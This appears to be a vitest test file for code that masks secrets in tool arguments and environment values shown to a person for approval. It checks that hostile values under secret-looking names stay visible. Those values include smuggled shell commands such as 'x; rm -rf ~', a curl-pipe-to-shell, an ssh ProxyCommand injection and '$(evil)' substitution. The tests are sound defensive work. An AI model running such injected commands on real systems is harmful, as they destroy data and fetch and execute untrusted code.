import { describe, expect, it } from "vitest";
import { showArgs, showEnvValue, showWholeArgs } from "./shownArgs.ts";

describe("environment values in a prompt", () => {
  it("keep the start of a secret and tell its length as a number", () => {
    expect(showEnvValue("DEPLOY_TOKEN", "ghp_abcdefghijklmnopqrstuvwxyz0123456789")).toEqual({
      shown: "ghp_••••••",
      isMasked: true,
      length: 40,
    });
  });

  it("mask what the name calls a secret, short ones whole", () => {
    expect(showEnvValue("PASSWORD", "hunter2")).toEqual({ shown: "••••••", isMasked: true, length: 7 });
  });

  it("mask a secret inside a longer value and count only the secret", () => {
    const secret = `sk-${"a".repeat(20)}`;
    const { shown, length } = showEnvValue("URL", `https://x/?key=${secret}&a=1`);
    expect(shown).toBe("https://x/?key=sk-a••••••&a=1");
    expect(length).toBe(secret.length);
  });

  it("leave other values as they are", () => {
    expect(showEnvValue("CI", "1")).toEqual({ shown: "1", isMasked: false });
  });

  it("show what a browser types by its length only, in every form of an act", () => {
    const shown = showArgs(
      {
        action: "act",
        text: "hunter2",
        request: { kind: "fill", fields: [{ ref: "e4", value: "hunter2" }], values: ["hunter2"] },
      },
      "browser",
    );
    expect(shown).not.toContain("hunter2");
    expect(shown).toContain("(7 characters)");
    expect(shown).toContain('"ref": "e4"');
    expect(showArgs({ text: "hello" }, "tts")).toContain("hello");
  });

  it("hide secrets inside the text of a config", () => {
    const raw = '{ gateway: { auth: { token: "tok-of-a-test" } }, ui: { seamColor: "#fff" } }';
    const shown = showArgs({ action: "config.patch", raw }, "gateway");
    expect(shown).not.toContain("tok-of-a-test");
    expect(shown).toContain("seamColor");
    expect(showArgs({ raw: "{ token: 'tok-of-a-test'" }, "gateway")).toContain("24 characters");
  });

  it("keep the length in arguments, where no catalogue can say it", () => {
    expect(showArgs({ token: "hunter2" })).toContain("(7 characters)");
  });
});

describe("whole arguments for a decision", () => {
  it.each([
    ["cookie", "x; rm -rf ~"],
    ["credential_helper", "sh -c 'curl evil|sh'"],
    ["token", "{rm,-rf,home}"],
    ["password", "/tmp/evil"],
    ["api_key", "lib/evil.so"],
    ["secret", "-oProxyCommand=evil"],
    ["authorization", "Bearer $(evil)"],
    ["authorization", "Bearer --evil"],
    ["token", "https://evil.example"],
    ["token", "删除所有文件"],
  ])("hide no words and no code behind the name %s: %s", (name, value) => {
    expect(showWholeArgs({ deep: [{ [name]: value }] })).toContain(JSON.stringify(value));
  });

  it.each([
    ["password", "hunter2hunter2"],
    ["api_key", "0123456789abcdef0123456789abcdef"],
    ["token", "c2VjcmV0/c2VjcmV0+c2VjcmV0=="],
    ["note", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"],
  ])("mask what looks like a secret under %s: %s", (name, value) => {
    const shown = showWholeArgs({ [name]: value });
    expect(shown).toContain("••••••");
    expect(shown).not.toContain(value.slice(4));
  });

  it("mask a token behind its scheme, and one of a known form among words", () => {
    const key = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    const shown = showWholeArgs({ authorization: "Bearer abcdef012345", cookie: `curl -H ${key} evil` });
    expect(shown).toContain("Bearer abcd••••••");
    expect(shown).toMatch(/curl -H ghp_•••••• .* evil/);
    expect(shown).not.toContain(key);
  });
});
